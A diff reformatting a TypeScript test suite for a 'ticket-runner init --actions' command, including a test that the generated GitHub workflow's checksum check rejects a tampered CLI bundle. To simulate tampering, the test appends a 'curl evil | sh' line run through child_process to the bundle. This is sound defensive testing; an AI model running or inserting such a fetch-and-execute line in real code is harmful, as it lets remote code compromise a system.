@@ -47,9 +47,15 @@ describe("ticket-runner init --actions", () => {
     assert.match(report.lines.join("\n"), /"lockScope": "host"/);
     assert.equal(report.needsHostScope, true);
     rmSync(join(dir, WORKFLOW_PATH));
-    assert.throws(() => initActions(dir, { schedule: "every hour", cliBundle }), (e: unknown) => e instanceof Refusal && /--schedule/.test(e.message));
+    assert.throws(
+      () => initActions(dir, { schedule: "every hour", cliBundle }),
+      (e: unknown) => e instanceof Refusal && /--schedule/.test(e.message),
+    );
     config({ agent: { kind: "demo" } });
-    assert.throws(() => initActions(dir, { cliBundle }), (e: unknown) => e instanceof Refusal && /agent\.kind is "demo"/.test(e.message));
+    assert.throws(
+      () => initActions(dir, { cliBundle }),
+      (e: unknown) => e instanceof Refusal && /agent\.kind is "demo"/.test(e.message),
+    );
   });
 
   it("the workflow's install step runs the committed CLI only while its checksum matches", () => {
@@ -58,15 +64,21 @@ describe("ticket-runner init --actions", () => {
     const yaml = readFileSync(join(dir, WORKFLOW_PATH), "utf8");
     const check = /^ +(echo "[0-9a-f]{64} {2}\S+" \| sha256sum --check --strict .*)$/m.exec(yaml)?.[1];
     assert.ok(check, yaml);
-    const run = () => execFileSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", check], { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
+    const run = () =>
+      execFileSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", check], { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
     assert.match(run(), /: OK/);
     const copy = /(\.github\/ticket-runner\/\S+\.cjs)/.exec(check)![1]!;
     writeFileSync(join(dir, copy), `${BUNDLE}require("child_process").execSync("curl evil | sh");\n`);
-    assert.throws(run, (e: { stdout?: string }) => /::error file=\.github\/ticket-runner\/.*is not the file ticket-runner init --actions wrote/.test(e.stdout ?? ""));
+    assert.throws(run, (e: { stdout?: string }) =>
+      /::error file=\.github\/ticket-runner\/.*is not the file ticket-runner init --actions wrote/.test(e.stdout ?? ""),
+    );
   });
 
   it("refuses, naming the file, when the CLI's own bundle cannot be read", () => {
     config({ agent: { kind: "claude" } });
-    assert.throws(() => initActions(dir, { cliBundle: join(dir, "missing.js") }), (e: unknown) => e instanceof Refusal && /missing\.js/.test(e.message) && /npm run build/.test(e.message));
+    assert.throws(
+      () => initActions(dir, { cliBundle: join(dir, "missing.js") }),
+      (e: unknown) => e instanceof Refusal && /missing\.js/.test(e.message) && /npm run build/.test(e.message),
+    );
   });
 });
